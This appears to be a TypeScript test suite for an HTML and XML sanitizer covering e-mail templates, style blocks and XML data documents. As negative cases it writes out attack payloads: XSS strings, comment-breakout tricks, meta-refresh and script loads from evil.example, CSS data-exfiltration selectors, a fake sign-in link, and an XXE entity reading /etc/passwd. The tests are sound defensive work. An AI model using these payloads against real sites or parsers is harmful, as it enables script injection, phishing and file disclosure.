import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { bareTagsInert, inertXmlDocument, sanitizedHtml } from './html.ts';

// An e-mail template as ESP editors save it (session 8, held-out 13): XHTML doctype, namespaces, meta, a style
// block with media queries, Outlook conditional comments (hidden and downlevel-revealed), numeric references.
const EMAIL = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Okafor & Sons Hardware</title>
<!--[if mso]><xml><o:OfficeDocumentSettings><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml><![endif]-->
<style type="text/css">
  body { margin:0; padding:0; -webkit-text-size-adjust:100%; }
  @media only screen and (max-width:600px) { .container { width:100% !important; } }
</style>
</head>
<body style="background-color:#f4f4f4;">
<div style="display:none;max-height:0;overflow:hidden;">Schedule change&#847;&zwnj;&nbsp;</div>
<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0"><tr><td align="center">
<img src="https://cdn.example.com/logo.png" width="140" alt="Okafor & Sons Hardware" style="display:block;border:0;">
<!--[if mso]><v:roundrect href="https://shop.example.com" style="height:44px;" arcsize="10%"><center>Shop now</center></v:roundrect><![endif]-->
<!--[if !mso]><!-- --><p class="btn"><a href="https://shop.example.com/?utm_source=newsletter&amp;utm_medium=email">Shop now</a></p><!--<![endif]-->
</td></tr></table>
</body>
</html>`;

describe('sanitizedHtml: whole documents (e-mail templates, session 8)', () => {
  test('an ESP template with doctype, head, style block and Outlook conditional comments passes', () => {
    assert.equal(sanitizedHtml(EMAIL), true);
  });

  test('what could run or redirect in such a document does not', () => {
    for (const [what, from, to] of [
      [
        'refresh',
        '<meta name="viewport"',
        '<meta http-equiv="refresh" content="0;url=https://evil.example"><meta name="viewport"',
      ],
      [
        'refresh in content',
        'content="width=device-width, initial-scale=1.0"',
        'content="0; url=https://evil.example"',
      ],
      ['UTF-7 charset', 'charset=UTF-8', 'charset=UTF-7'],
      ['style url()', 'margin:0;', 'background:url(https://evil.example/x);'],
      ['style import', 'body {', '@import "https://evil.example/x.css"; body {'],
      ['style escape', 'margin:0;', 'b\\61ckground:red;'],
      ['markup in style', 'margin:0;', '</style><script>alert(1)</script><style>'],
      ['script in a conditional comment', '<o:PixelsPerInch>', '<script>alert(1)</script><o:PixelsPerInch>'],
      ['handler in a conditional comment', 'arcsize="10%"', 'onclick="alert(1)"'],
      ['a plain comment', '<!--[if mso]><xml>', '<!-- note --><!--[if mso]><xml>'],
      [
        'an abruptly closed comment',
        '<!--[if mso]><xml>',
        '<!--><script>alert(1)</script><!--[if mso]><xml>',
      ],
      ['a --!> comment end', '<![endif]-->\n<style', '<![endif]--!><script>alert(1)</script>-->\n<style'],
      ['a script element', '</head>', '<script src="https://evil.example/x.js"></script></head>'],
      ['a base element', '</head>', '<base href="https://evil.example/"></head>'],
      ['a foreign doctype', '<!DOCTYPE html PUBLIC', '<!DOCTYPE svg PUBLIC'],
      // A title is RCDATA: a `<!--` inside it is text, so markup after it would be live (audit 10).
      [
        'a comment opened inside the title',
        '<title>Okafor & Sons Hardware</title>',
        '<title><!--[if mso]></title><a href="https://evil.example/login" style="position:fixed">Sign in</a><![endif]--></title>',
      ],
    ] as const) {
      assert.ok(EMAIL.includes(from), what);
      assert.equal(sanitizedHtml(EMAIL.replace(from, to)), false, what);
    }
  });

  test('encoded tag names in the text are allowed only as bare mentions', () => {
    const p = (t: string): string => `<p>${t}</p>`;
    assert.equal(sanitizedHtml(p('why &lt;script&gt; tags still show up in bug bounties')), true);
    assert.equal(sanitizedHtml(p('the &lt;UK&gt; entity was renamed')), true);
    assert.equal(sanitizedHtml(p('try &lt;script&gt;alert(1)&lt;/script&gt; here')), false);
    assert.equal(sanitizedHtml(p('try &lt;img src=x onerror=alert(1)&gt; here')), false);
  });
});

describe('bareTagsInert', () => {
  test('tags named in a sentence, without values or code after a raw-text element', () => {
    assert.equal(
      bareTagsInert('Then <img onerror> handlers fire but <script> tags in innerHTML do not'),
      true,
    );
    assert.equal(bareTagsInert('Wrap it in <Suspense> and move <Chart /> inside; x < 5 and y <= 3'), true);
    for (const t of [
      '<script>alert(1)</script>',
      '<script>alert(1)',
      'see <script> alert (1) here',
      'see <script> x=1 here',
      'see <svg onload=alert(1)> here',
      'see <a href="javascript:alert(1)"> here',
      'see </script> here',
      'see <b>bold</b> then &lt;script&gt;',
      'no tag at all',
    ])
      assert.equal(bareTagsInert(t), false, t);
  });
});

describe('sanitizedHtml: style blocks and XML documents (session 9)', () => {
  const doc = (css: string): string =>
    `<!DOCTYPE html><html><head><style>${css}</style></head><body><p>Hello there</p></body></html>`;
  test('a style block holds declarations a style attribute may hold; a conditional comment may hold one too', () => {
    assert.equal(
      sanitizedHtml(
        doc(
          'body { margin: 0; -webkit-text-size-adjust: 100%; } @media (max-width: 600px) { .col { width: 100% !important; } }',
        ),
      ),
      true,
    );
    assert.equal(
      sanitizedHtml(`<p>Hi</p><!--[if mso]><style>.btn { padding: 0; }</style><![endif]-->`),
      true,
    );
    for (const css of [
      'body:has(input[value^=a]) { background-image: image-set("https://evil.example/a" 1x) }',
      'a { position: fixed; top: 0 }',
      '@font-face { font-family: x; }',
      'p { color: red; behavior: x }',
    ]) {
      assert.equal(sanitizedHtml(doc(css)), false, css);
      assert.equal(sanitizedHtml(`<p>Hi</p><!--[if mso]><style>${css}</style><![endif]-->`), false, css);
    }
  });

  test('XML data documents without active parts, and what is refused in them', () => {
    const plist =
      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadType</key><string>Configuration</string></dict></plist>';
    assert.equal(inertXmlDocument(plist), true);
    for (const bad of [
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
      '<?xml version="1.0"?><a xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></a>',
      '<?xml version="1.0"?><a><b onload="alert(1)">x</b></a>',
      '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a>x</a>',
      '<?xml version="1.0"?><a><![CDATA[<script>alert(1)</script>]]></a>',
      '<?xml version="1.0"?><a href="javascript:alert(1)">x</a>',
    ])
      assert.equal(inertXmlDocument(bad), false, bad);
  });
});
